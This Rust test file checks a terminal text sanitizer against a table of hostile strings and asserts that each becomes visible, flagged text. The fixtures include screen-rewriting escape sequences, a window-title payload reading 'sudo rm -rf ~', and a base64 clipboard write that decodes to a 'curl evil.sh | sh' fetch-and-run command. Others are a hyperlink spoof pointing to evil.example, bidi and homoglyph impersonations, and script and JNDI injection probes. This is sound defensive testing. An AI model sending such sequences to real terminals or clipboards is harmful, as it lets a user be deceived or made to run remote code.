//! Tests of the sanitizer: every row of shared/hostile-strings.md, exactly.
use super::*;

fn flags(names: &str) -> Flags {
    let mut f = Flags::default();
    for name in names.split_whitespace() {
        match name {
            "controls" => f.controls = true,
            "bidi" => f.bidi = true,
            "hidden" => f.hidden = true,
            "tags" => f.tags_stripped = true,
            "marks" => f.marks_capped = true,
            "truncated" => f.truncated = true,
            "mixed" => f.mixed_script = true,
            _ => panic!("unknown flag {name}"),
        }
    }
    f
}

/// Each (raw, shown, flags) through `f` with a cap of `cap` graphemes.
fn check(f: fn(&str, usize) -> Safe, cap: usize, cases: &[(&str, &str, &str)]) {
    for (raw, shown, names) in cases {
        let want = Safe {
            text: shown.to_string(),
            flags: flags(names),
        };
        assert_eq!(f(raw, cap), want, "{raw:?}");
    }
}

/// hostile-strings.md rows 1–17 (row 13 below): every control visible, flag `controls`.
#[rustfmt::skip]
const CONTROLS: &[(&str, &str, &str)] = &[
    ("a\x1b[2J\x1b[Hb", "a^[[2J^[[Hb", "controls"),
    ("ok\x1b[1A\x1b[2Kfake", "ok^[[1A^[[2Kfake", "controls"),
    ("\x1b[8mhidden\x1b[0m \x1b[31mRED", "^[[8mhidden^[[0m ^[[31mRED", "controls"),
    ("\x1b]0;sudo rm -rf ~\x07", "^[]0;sudo rm -rf ~^G", "controls"),
    ("\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2gK\x07", "^[]52;c;Y3VybCBldmlsLnNoIHwgc2gK^G", "controls"),
    ("\x1b]52;c;?\x07", "^[]52;c;?^G", "controls"),
    ("\x1b]8;;https://evil.example/\x1b\\https://bank.example\x1b]8;;\x1b\\",
        "^[]8;;https://evil.example/^[\\https://bank.example^[]8;;^[\\", "controls"),
    ("\x1b]8;;https://x\x1b[31m rest", "^[]8;;https://x^[[31m rest", "controls"),
    ("\x1bP$qm\x1b\\", "^[P$qm^[\\", "controls"),
    ("\x1b]l;evil\x1b\\\x1b[21t", "^[]l;evil^[\\^[[21t", "controls"),
    ("a\u{9b}2Jb \u{9d}0;t\u{9c}", "a⟨U+009B⟩2Jb ⟨U+009D⟩0;t⟨U+009C⟩", "controls"),
    ("a\u{85}b", "a⟨U+0085⟩b", "controls"),
    ("Legit text\rFAKE", "Legit text^MFAKE", "controls"),
    ("admin\x08\x08\x08\x08\x08guest", "admin^H^H^H^H^Hguest", "controls"),
    ("a\u{0000}b", "a^@b", "controls"),
    ("a\x7fb", "a^?b", "controls"),
    ("\x0b\x0c\x1f", "^K^L^_", "controls"),
];

/// Rows 18–22: bidi controls and invisible characters become markers.
#[rustfmt::skip]
const MARKED: &[(&str, &str, &str)] = &[
    ("invoice\u{202E}gnp.exe", "invoice⟨U+202E⟩gnp.exe", "bidi"),
    ("user\u{202E} \u{2066}// admin\u{2069} \u{2066}",
        "user⟨U+202E⟩ ⟨U+2066⟩// admin⟨U+2069⟩ ⟨U+2066⟩", "bidi"),
    ("\u{200F}\u{061C}\u{200E}x", "⟨U+200F⟩⟨U+061C⟩⟨U+200E⟩x", "bidi"),
    ("ad\u{200B}min", "ad⟨U+200B⟩min", "hidden"),
    ("\u{FEFF}admin", "⟨U+FEFF⟩admin", "hidden"),
    ("a\u{2060}b", "a⟨U+2060⟩b", "hidden"),
    ("\u{3164}", "⟨U+3164⟩", "hidden"),
    ("\u{115F}", "⟨U+115F⟩", "hidden"),
    ("\u{1160}\u{FFA0}\u{034F}", "⟨U+1160⟩⟨U+FFA0⟩⟨U+034F⟩", "hidden"),
    ("\u{180E}\u{2061}\u{00AD}", "⟨U+180E⟩⟨U+2061⟩⟨U+00AD⟩", "hidden"),
    ("a\u{200D}b", "a⟨U+200D⟩b", "hidden"), // a joiner between ASCII letters is a spoof
    ("\u{200C}x", "⟨U+200C⟩x", "hidden"),
    ("می\u{200C}خواهم", "می\u{200C}خواهم", ""), // Persian ZWNJ stays
    // Devanagari ZWJ: dropped, terminals draw the next letter into its cell (compat.rs).
    ("क्\u{200D}ष", "क्ष", ""),
];

/// Rows 23–35 that are plain strings, at a cap of 80.
#[rustfmt::skip]
const OTHERS: &[(&str, &str, &str)] = &[
    ("hi\u{E0041}\u{E0042}\u{E0043}", "hi", "tags"),
    ("🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}",
        "🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}", ""), // England flag
    ("🏴\u{E0041}\u{E007F}", "🏴", "tags"),
    // Clusters terminals measure differently are rewritten (compat.rs): flags as letters, no
    // VS16, no skin-tone modifiers, ZWJ only between wide emoji, halfwidth sound marks folded.
    ("👨‍👩‍👧‍👦 🇺🇸 ⌨️ 🐻‍❄️ 👁️‍🗨️ 🥲🏻 😹 1️⃣ 👍🏽 ❤️‍🔥", "👨‍👩‍👧‍👦 [US] ⌨ 🐻❄ 👁🗨 🥲 😹 1⃣ 👍 ❤🔥", ""),
    ("🇺🇸🇦 a🇺 王🇯🇵", "[US][A] a[U] 王[JP]", ""),
    ("Ж🏻 👋🏿 🏻x", "Ж 👋 x", ""),
    ("🥲🏻🏻🏻🏻🏻🏻", "🥲", ""),
    ("ｶﾞﾞﾞﾞﾞﾞ", "ガ\u{3099}\u{3099}\u{3099}\u{3099}", "marks"),
    ("ﾞ ｱﾞ ﾊﾟ", "\u{3099} ア\u{3099} パ", ""),
    ("a\u{FE0F}\u{FE0F}\u{FE0F}\u{FE0F}\u{FE0F}b", "ab", ""),
    // Over-long ZWJ chains (one grapheme, two cells for ratatui) are broken up.
    ("👨‍👨‍👨‍👨‍👨‍", "👨‍👨‍👨‍👨⟨U+200D⟩👨⟨U+200D⟩", "hidden"),
    ("コンピュータ", "コンピュータ", ""),
    ("你好，世界！", "你好，世界！", ""),
    ("ｶﾞｷﾞｸﾞ", "ガギグ", ""), // width 6, as a terminal draws the original
    ("Привет שלום مرحبا", "Привет שלום مرحبا", ""),
    ("a\u{2028}b\u{2029}c", "a⏎b⏎c", ""),
    ("a\r\nb\nc", "a⏎b⏎c", ""),
    ("pay\tme", "pay    me", ""),
    ("x\u{FFFD}", "x\u{FFFD}", ""), // row 31 after a lossy decode
    ("[red]x[/red] {0} %s%n <script>alert(1)</script> ${jndi:x}",
        "[red]x[/red] {0} %s%n <script>alert(1)</script> ${jndi:x}", ""),
];

/// Every hostile string of the tables above (for the property tests in `width.rs`).
pub(in crate::text) fn table_inputs() -> impl Iterator<Item = &'static str> {
    CONTROLS
        .iter()
        .chain(MARKED)
        .chain(OTHERS)
        .map(|case| case.0)
}

#[test]
fn hostile_rows_exact() {
    check(sanitize_line, 500, CONTROLS);
    check(sanitize_line, 64, MARKED);
    check(sanitize_identity, 64, MARKED);
    check(sanitize_line, 80, OTHERS);
    let bells = sanitize_line(&"\x07".repeat(1000), 100); // row 13: whole ^G pairs only
    assert_eq!(bells.text, format!("{}…", "^G".repeat(50)));
    assert_eq!(bells.flags, flags("controls truncated"));
    let zalgo = format!("Z{}", "\u{0301}\u{0316}\u{0344}".repeat(50)); // row 24
    check(
        sanitize_line,
        80,
        &[(&zalgo, "Z\u{0301}\u{0316}\u{0344}\u{0301}", "marks")],
    );
    let json = [
        0x7B, 0x22, 0x62, 0x22, 0x3A, 0x22, 0x61, 0xFF, 0x62, 0x22, 0x7D,
    ]; // row 32
    let json = String::from_utf8_lossy(&json);
    let overlong = String::from_utf8_lossy(&[0xC0, 0xAF]);
    check(sanitize_line, 80, &[(&json, "{\"b\":\"a\u{FFFD}b\"}", "")]);
    check(sanitize_line, 80, &[(&overlong, "\u{FFFD}\u{FFFD}", "")]);
    let (deep, deep_shown) = ("[".repeat(200), format!("{}…", "[".repeat(80))); // row 34
    check(sanitize_line, 80, &[(&deep, &deep_shown, "truncated")]);
}

#[test]
fn identities() {
    check(
        sanitize_identity,
        80,
        &[("pаypal", "pаypal", "mixed"), ("paypal", "paypal", "")],
    );
    check(
        sanitize_identity,
        80,
        &[
            ("コンピュータ", "コンピュータ", ""),
            ("Ελλάδα", "Ελλάδα", ""),
        ],
    );
    assert!(is_mixed_script("pay-pаl") && is_mixed_script("αdmin") && is_mixed_script("Ρусский"));
    assert!(!is_mixed_script("paypal Привет Ελλάδα café 1α ⟨U+0430⟩"));
    // A name that would render blank is spelled out.
    check(
        sanitize_identity,
        64,
        &[("   ", "⟨U+0020⟩⟨U+0020⟩⟨U+0020⟩", "hidden")],
    );
    check(
        sanitize_identity,
        64,
        &[("\u{2800}", "⟨U+2800⟩", "hidden"), ("", "", "")],
    );
    check(
        sanitize_identity,
        64,
        &[("\u{E0041}", "⟨U+E0041⟩", "hidden tags")],
    );
    check(sanitize_identity, 64, &[("\u{0301}", "⟨U+0301⟩", "hidden")]);
    check(sanitize_identity, 2, &[(" ", "…", "hidden truncated")]);
    check(
        sanitize_identity,
        8,
        &[("  ", "⟨U+0020⟩…", "hidden truncated")],
    );
    check(sanitize_line, 64, &[("   ", "   ", "")]);
}

#[test]
fn blocks() {
    let own = |v: &[&str]| v.iter().map(|s| s.to_string()).collect::<Vec<_>>();
    let (lines, f) = sanitize_block("a\u{2028}b\u{2029}c\r\nd\n\ne\rf\n", 10, 80);
    assert_eq!(
        (lines, f),
        (own(&["a", "b", "c", "d", "", "e^Mf"]), flags("controls"))
    );
    assert_eq!(sanitize_block("", 10, 80), (vec![], Flags::default()));
    assert_eq!(sanitize_block("\n", 10, 80), (own(&[""]), Flags::default()));
    assert_eq!(
        sanitize_block("a\u{85}b", 5, 80),
        (own(&["a⟨U+0085⟩b"]), flags("controls"))
    );
    assert_eq!(
        sanitize_block("a\tb\nc\nd", 2, 80),
        (own(&["a    b", "c"]), flags("truncated"))
    );
    assert_eq!(
        sanitize_block("abcd\nef", 5, 2),
        (own(&["ab…", "ef"]), flags("truncated"))
    );
    assert_eq!(sanitize_block("x", 0, 2), (vec![], flags("truncated")));
    let long = format!("ab\n{}", "c".repeat(1000)); // the window (2 × 320 bytes) ends in line 2
    assert_eq!(
        sanitize_block(&long, 1, 2),
        (own(&["ab"]), flags("truncated"))
    );
    let (lines, f) = sanitize_block(&format!("{}\n", "y".repeat(639)), 1, 2);
    assert_eq!((lines, f), (own(&["yy…"]), flags("truncated")));
}

#[test]
fn huge_inputs_row_33() {
    let (xs, xs_shown) = ("x".repeat(100_000), format!("{}…", "x".repeat(500)));
    let (nl, nl_shown) = (
        "\n".repeat(100_000),
        format!("{}…", NEWLINE_MARK.repeat(500)),
    );
    let marks = format!("x{}", "\u{0301}".repeat(10_000));
    check(
        sanitize_line,
        500,
        &[(&xs, &xs_shown, "truncated"), (&nl, &nl_shown, "truncated")],
    );
    check(
        sanitize_line,
        500,
        &[(
            &marks,
            "x\u{0301}\u{0301}\u{0301}\u{0301}…",
            "marks truncated",
        )],
    );
    let (lines, f) = sanitize_block(&nl, 50, 80);
    assert_eq!((lines.len(), f), (50, flags("truncated")));
    check(sanitize_line, 0, &[("abc", "…", "truncated"), ("", "", "")]);
    check(
        sanitize_line,
        3,
        &[("abc", "abc", ""), ("abcd", "abc…", "truncated")],
    );
    // O(cap), not O(input): 1 MB and 64 MB bodies cost microseconds.
    let mb = "y".repeat(1 << 20);
    let big = "\u{0301}".repeat(32 << 20);
    let start = std::time::Instant::now();
    for _ in 0..10 {
        assert_eq!(sanitize_line(&mb, 500).text.chars().count(), 501);
        assert!(sanitize_line(&big, 500).flags.truncated);
        assert_eq!(sanitize_block(&mb, 40, 500).0.len(), 1);
    }
    assert!(
        start.elapsed() < std::time::Duration::from_millis(200),
        "{:?}",
        start.elapsed()
    );
}
